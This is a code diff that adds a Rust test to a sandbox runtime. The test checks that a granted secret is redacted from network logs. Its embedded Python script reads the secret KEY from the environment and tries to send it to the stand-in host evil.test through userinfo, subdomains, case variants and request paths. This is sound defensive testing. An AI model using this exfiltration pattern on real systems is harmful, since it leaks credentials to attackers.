@@ -94,3 +94,21 @@ async fn bytes_are_in_the_step_in_which_they_flow() {
         "one connection was made, in the first step"
     );
 }
+
+#[tokio::test]
+async fn a_granted_secret_is_neither_in_network_nor_in_denied_however_it_was_written() {
+    let Some(world) = World::new().await else { return };
+    let mut config = world.config("api.test", Vec::new());
+    config.secrets = vec!["KEY".into()];
+    let sandbox = world.runtime.sandbox(config).await.unwrap();
+    // The value itself, as clients write it and in the case that clients make of it.
+    let script = "import os\nkey = os.environ['KEY']\n\
+                  for host in [f'user:{key}@evil.test', f'{key}.evil.test', f'{key.upper()}.evil.test', key.title()]:\n    ask(f'GET http://{host}/{key} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n    ask(f'CONNECT {host}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n\
+                  emit_result(1)";
+    let (result, denied) = run_hearing(&world, &sandbox, script).await;
+    assert_eq!(data(&result), "1");
+    let said = format!("{:?} {denied:?}", result.network);
+    assert!(!said.to_ascii_lowercase().contains(crate::world::SECRET), "{said}");
+    assert!(said.contains("***.evil.test"), "{said}");
+    assert_eq!(result.network.iter().map(|line| line.count).sum::<u64>(), 8, "{said}");
+}
